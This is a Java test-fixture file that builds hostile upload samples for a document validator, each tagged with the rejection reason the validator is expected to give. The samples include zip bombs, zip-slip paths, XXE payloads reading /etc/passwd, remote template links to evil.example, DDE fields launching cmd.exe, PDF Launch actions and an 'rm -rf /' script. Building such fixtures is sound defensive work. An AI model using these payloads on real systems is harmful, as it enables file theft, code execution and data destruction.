package vn.thanghang.directive;

import static vn.thanghang.directive.Untrusted.Reason.*;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import vn.thanghang.directive.Untrusted.Reason;

/** Files that mean harm, made when they are needed; none of them is stored. */
@SuppressWarnings("ArrayRecordComponent")
public final class HostileFiles {
    public static final String TEST_PATTERN =
            "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    /** @param refusals the reasons that fit; empty when the file may also be read, safely */
    public record Hostile(String name, byte[] file, Set<Reason> refusals) {
        @Override
        public String toString() {
            return name + " (" + file.length + " bytes)";
        }
    }

    private final List<Hostile> all = new ArrayList<>();

    public static List<Hostile> all() throws IOException {
        HostileFiles files = new HostileFiles();
        files.bombs();
        files.names();
        files.entities();
        files.macros();
        files.references();
        files.pdfs();
        files.locked();
        files.lies();
        files.heavy();
        files.damaged();
        return files.all;
    }

    private void add(String name, byte[] file, Reason... refusals) {
        all.add(new Hostile(name, file, Set.of(refusals)));
    }

    private void bombs() throws IOException {
        add(
                "bomb-200mb.docx",
                Packages.docx().zeros("word/media/a.bin", 200 << 20).zip(),
                BOMB);
        add(
                "bomb-document.docx",
                Packages.empty().zeros("word/document.xml", 150 << 20).zip(),
                BOMB);
        add("bomb-many-parts.docx", manyBombs(), BOMB);
        add(
                "bomb-ratio.docx",
                Packages.docx().zeros("word/media/b.bin", 60 << 20).zip(),
                BOMB);
        add("bomb-100k-entries.docx", Packages.docx().many(100_000).zip(), BOMB);
        add("bomb-3k-entries.docx", Packages.docx().many(3_000).zip(), BOMB);
        add(
                "bomb-spaces.docx",
                Packages.docx().repeated("word/footnotes.xml", " ", 40 << 20).zip(),
                BOMB);
        add(
                "nested.docx",
                Packages.docx()
                        .part("word/media/inner.zip", Packages.docx().zip())
                        .zip(),
                NESTED_ARCHIVE);
        add(
                "bomb-nested.zip",
                Packages.empty()
                        .part("a.zip", Packages.docx().zeros("x", 20 << 20).zip())
                        .zip(),
                UNSUPPORTED,
                NESTED_ARCHIVE,
                BOMB);
        add(
                "bomb-paragraphs.docx",
                Packages.docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(900_000))
                        .zip(),
                BOMB,
                READER_ENDED,
                TOO_LARGE,
                TOO_SLOW);
        add(
                "deep.docx",
                Packages.docx("<w:sdt><w:sdtContent>".repeat(20_000) + "</w:sdtContent></w:sdt>".repeat(20_000))
                        .zip(),
                DAMAGED,
                READER_ENDED);
        add(
                "deep-tables.docx",
                Packages.docx("<w:tbl><w:tr><w:tc>".repeat(5_000) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(5_000))
                        .zip());
    }

    private static byte[] manyBombs() throws IOException {
        Packages zip = Packages.docx();
        for (int i = 0; i < 12; i++) {
            zip.repeated("word/media/image" + i + ".dat", "0123456789abcdef" + i, 12 << 20);
        }
        return zip.zip();
    }

    private void names() throws IOException {
        for (String name : List.of(
                "../../etc/cron.d/x",
                "/etc/passwd",
                "..\\..\\windows\\x.dll",
                "C:\\x.txt",
                "word/../../x",
                "word/..")) {
            add("slip-" + all.size() + ".docx", Packages.docx().part(name, "x").zip(), UNSAFE_NAMES);
        }
        add("twice.docx", Packages.docx().part("WORD/document.xml", "x").zip(), UNSAFE_NAMES);
    }

    private void entities() throws IOException {
        String xxe = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        String remote = "<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/x.dtd\"><a/>";
        StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        laughs.append("]><a>&l11;</a>");
        for (String xml : List.of(xxe, remote, laughs.toString())) {
            add(
                    "xxe-document-" + all.size() + ".docx",
                    Packages.empty().part("word/document.xml", xml).zip(),
                    XML_ENTITIES);
            add(
                    "xxe-styles-" + all.size() + ".docx",
                    Packages.docx().part("word/styles.xml", xml).zip(),
                    XML_ENTITIES);
            add(
                    "xxe-core-" + all.size() + ".docx",
                    Packages.docx().part("docProps/core.xml", xml).zip(),
                    XML_ENTITIES);
        }
        for (Charset wide : List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            add(
                    "xxe-" + wide + ".docx",
                    Packages.docx()
                            .part("word/settings.xml", xxe.getBytes(wide))
                            .zip(),
                    XML_ENTITIES);
        }
        add(
                "xxe-rels.docx",
                Packages.docx().part("word/_rels/document.xml.rels", xxe).zip(),
                XML_ENTITIES);
    }

    private void macros() throws IOException {
        add("macro.docx", Packages.docx().part("word/vbaProject.bin", "x").zip(), MACRO);
        add("macro.docm", Packages.docx().part("word/vbaProject.bin", "x").zip(), MACRO);
        add("macro-data.docx", Packages.docx().part("word/vbaData.xml", "<a/>").zip(), MACRO);
        add("macro-type.docx", Packages.docx("", Packages.MACRO_TYPE).zip(), MACRO);
        add(
                "macro-relation.docx",
                Packages.docx()
                        .relation(
                                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                "elsewhere.bin",
                                false)
                        .zip(),
                MACRO);
        add(
                "activex.docx",
                Packages.docx().part("word/activeX/activeX1.bin", "x").zip(),
                ACTIVE_CONTENT);
        add(
                "ole.docx",
                Packages.docx().part("word/embeddings/oleObject1.bin", "x").zip(),
                ACTIVE_CONTENT);
        add(
                "exe-inside.docx",
                Packages.docx().part("word/embeddings/setup.exe", "MZ").zip(),
                ACTIVE_CONTENT);
        add(
                "exe-as-picture.docx",
                Packages.docx().part("word/media/image1.png", "MZ\u0000\u0000").zip(),
                ACTIVE_CONTENT);
        add(
                "eicar-inside.docx",
                Packages.docx().part("word/media/a.txt", TEST_PATTERN).zip(),
                VIRUS_PATTERN);
        add("eicar.txt", TEST_PATTERN.getBytes(StandardCharsets.US_ASCII), VIRUS_PATTERN);
        add(
                "eicar.pdf",
                HostilePdfs.attached("a.txt", TEST_PATTERN.getBytes(StandardCharsets.US_ASCII)),
                VIRUS_PATTERN);
    }

    private void references() throws IOException {
        String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        for (String target : List.of(
                "http://127.0.0.1:9/evil.dotm",
                "https://evil.example/t.dotm",
                "\\\\evil\\share\\t.dotm",
                "file://evil/share/t.dotm")) {
            add(
                    "template-" + all.size() + ".docx",
                    Packages.docx()
                            .relation(office + "attachedTemplate", target, true)
                            .zip(),
                    EXTERNAL_REFERENCE);
        }
        add(
                "ole-link.docx",
                Packages.docx()
                        .relation(office + "oleObject", "http://127.0.0.1:9/x", true)
                        .zip(),
                EXTERNAL_REFERENCE);
        add(
                "frame.docx",
                Packages.docx()
                        .relation(office + "frame", "http://127.0.0.1:9/x", true)
                        .zip(),
                EXTERNAL_REFERENCE);
        add(
                "subdocument.docx",
                Packages.docx().relation(office + "subDocument", "x.docx", true).zip(),
                EXTERNAL_REFERENCE);
        add(
                "dde.docx",
                Packages.docx(
                                "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe \"/k calc\""
                                        + "</w:instrText></w:r></w:p>")
                        .zip(),
                EXTERNAL_REFERENCE);
        add(
                "dde-simple.docx",
                Packages.docx("<w:p><w:fldSimple w:instr=\" DDE cmd calc\"/></w:p>")
                        .zip(),
                EXTERNAL_REFERENCE);
        add(
                "links.xlsx",
                Packages.empty()
                        .part("xl/workbook.xml", "<a/>")
                        .part("xl/externalLinks/externalLink1.xml", "<a/>")
                        .zip(),
                EXTERNAL_REFERENCE);
        add(
                "dde.xlsx",
                Packages.empty()
                        .part("xl/workbook.xml", "<ddeLink ddeService=\"cmd\"/>")
                        .zip(),
                EXTERNAL_REFERENCE);
        add("sheet.docx", Packages.empty().part("xl/workbook.xml", "<a/>").zip(), UNSUPPORTED);
    }

    private void pdfs() throws IOException {
        add("javascript.pdf", HostilePdfs.action("JavaScript"), ACTIVE_CONTENT);
        add("javascript-name-tree.pdf", HostilePdfs.script(), ACTIVE_CONTENT);
        add("launch.pdf", HostilePdfs.action("Launch"), ACTIVE_CONTENT);
        add("submit.pdf", HostilePdfs.action("SubmitForm"), ACTIVE_CONTENT);
        add("remote-embedded.pdf", HostilePdfs.action("GoToE"), ACTIVE_CONTENT);
        add("xfa.pdf", HostilePdfs.xfa(), ACTIVE_CONTENT);
        add("exe-attached.pdf", HostilePdfs.attached("setup.exe", new byte[] {'M', 'Z'}), ACTIVE_CONTENT);
        add("exe-renamed.pdf", HostilePdfs.attached("letter.txt", new byte[] {'M', 'Z', 0, 0}), ACTIVE_CONTENT);
        add("pages.pdf", HostilePdfs.pages(501), TOO_LARGE);
        add("stream-bomb.pdf", HostilePdfs.streamBomb(900 << 20), READER_ENDED, TOO_SLOW, DAMAGED);
        add("wide-map.pdf", HostilePdfs.wideMap(), BOMB);
        add("form-loop.pdf", HostilePdfs.formLoop(), TOO_SLOW, DAMAGED, READER_ENDED);
        add(
                "page-loop.pdf",
                HostilePdfs.raw("2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"),
                DAMAGED,
                READER_ENDED,
                TOO_LARGE);
        add(
                "deep.pdf",
                HostilePdfs.raw("2 0 obj<</Type/Pages/Count 0/Kids[]/A " + "[".repeat(20_000) + "]".repeat(20_000)
                        + ">>endobj\n"),
                DAMAGED,
                BOMB,
                READER_ENDED);
    }

    private void locked() throws IOException {
        add("locked.pdf", HostilePdfs.locked(), ENCRYPTED);
        add("locked.docx", Ole.withStream("EncryptedPackage"), ENCRYPTED);
        add("old.doc", Ole.withStream("WordDocument"), OLD_FORMAT);
        add("old.docx", Ole.withStream("WordDocument"), OLD_FORMAT);
        byte[] zip = Packages.docx().zip();
        zip[6] |= 1; // the first entry says it is encrypted
        add("locked-zip.docx", zip, ENCRYPTED, DAMAGED);
    }

    private void lies() throws IOException {
        byte[] html = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        byte[] program = "MZ\u0000\u0000program".getBytes(StandardCharsets.ISO_8859_1);
        byte[] gif =
                "GIF89a\u0001\u0000\u0001\u0000<html><script>alert(1)</script>".getBytes(StandardCharsets.ISO_8859_1);
        add("html.pdf", html, MISLABELLED);
        add("html.docx", html, MISLABELLED);
        add("pdf.docx", HostilePdfs.pages(1), MISLABELLED);
        add("docx.pdf", Packages.docx().zip(), MISLABELLED);
        add("pdf.jpg", HostilePdfs.pages(1), MISLABELLED);
        add("program.docx", program, MISLABELLED);
        add("program.exe", program, UNSUPPORTED);
        add("gpj\u202Eexe.pdf", program, MISLABELLED);
        add("polyglot.gif", gif, UNSUPPORTED);
        add("polyglot.html", gif, MISLABELLED);
        add("script.sh", "#!/bin/sh\nrm -rf /".getBytes(StandardCharsets.US_ASCII), UNSUPPORTED);
        add("huge.png", png(60_000, 60_000), PICTURE_TOO_LARGE);
        add(
                "huge-inside.docx",
                Packages.docx()
                        .part("word/media/image1.png", png(60_000, 60_000))
                        .zip(),
                PICTURE_TOO_LARGE);
        add("archive.zip", Packages.empty().part("a.txt", "a").zip(), UNSUPPORTED);
    }

    private void heavy() {
        byte[] huge = new byte[26 << 20];
        Arrays.fill(huge, (byte) 'a');
        add("huge.txt", huge, TOO_LARGE);
        add("long.txt", Arrays.copyOf(huge, 20 << 20), TOO_LARGE, READER_ENDED, TOO_SLOW);
        add("deep.html", ("<html><body>" + "<div>".repeat(200_000) + "x").getBytes(StandardCharsets.UTF_8));
        add("tables.html", ("<html><body>" + "<table><tr><td>".repeat(20_000) + "x").getBytes(StandardCharsets.UTF_8));
        add("dots.txt", ("Số: " + ".".repeat(200_000) + "/A-B\n").getBytes(StandardCharsets.UTF_8));
        add("dates.txt", ("ngày 1 tháng " + "1 ngày ".repeat(30_000)).getBytes(StandardCharsets.UTF_8));
        add("capitals.txt", "UBND TỈNH ".repeat(30_000).getBytes(StandardCharsets.UTF_8));
        add(
                "citations.txt",
                "Quyết định số 1/QĐ-UBND ngày 01/02/2024 của UBND tỉnh, "
                        .repeat(8_000)
                        .getBytes(StandardCharsets.UTF_8));
        add("marks.txt", ("a" + "\u0301".repeat(100_000)).getBytes(StandardCharsets.UTF_8));
        add("lines.txt", "1.\n".repeat(200_000).getBytes(StandardCharsets.UTF_8), TOO_LARGE);
        add(
                "script.html",
                ("<html><body><script>while(1);</script><img src=\"http://127.0.0.1:9/x\" onerror=\"alert(1)\">"
                                + "<iframe src=\"file:///etc/passwd\"></iframe><p>Số: 1/A-B</p></body></html>")
                        .getBytes(StandardCharsets.UTF_8));
    }

    private void damaged() throws IOException {
        byte[] docx = Packages.docx().zip();
        add("empty.pdf", new byte[0], EMPTY);
        add("blank.txt", " \n\t ".getBytes(StandardCharsets.US_ASCII), EMPTY);
        add("cut.docx", Arrays.copyOf(docx, docx.length / 2), DAMAGED, UNSUPPORTED);
        add("head-only.docx", new byte[] {'P', 'K', 3, 4}, DAMAGED);
        add("head-only.pdf", "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), DAMAGED);
        add(
                "no-markup.docx",
                Packages.empty().part("word/document.xml", "no markup").zip(),
                DAMAGED);
        add("nul.txt", "a\u0000b".getBytes(StandardCharsets.US_ASCII), MISLABELLED, UNSUPPORTED);
        add("bad-utf8.txt", new byte[] {'a', (byte) 0xC3, (byte) 0x28, (byte) 0xFF}, DAMAGED);
    }

    private static byte[] png(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        for (int size : new int[] {width, height}) {
            out.writeBytes(new byte[] {(byte) (size >> 24), (byte) (size >> 16), (byte) (size >> 8), (byte) size});
        }
        out.writeBytes(new byte[] {8, 6, 0, 0, 0, 0, 0, 0, 0});
        return out.toByteArray();
    }

    /** The head of the binary office container with the name of a stream. */
    private static final class Ole {
        static byte[] withStream(String name) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(
                    new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
                    });
            out.writeBytes(new byte[1016]);
            out.writeBytes(name.getBytes(StandardCharsets.UTF_16LE));
            out.writeBytes(new byte[512]);
            return out.toByteArray();
        }
    }
}
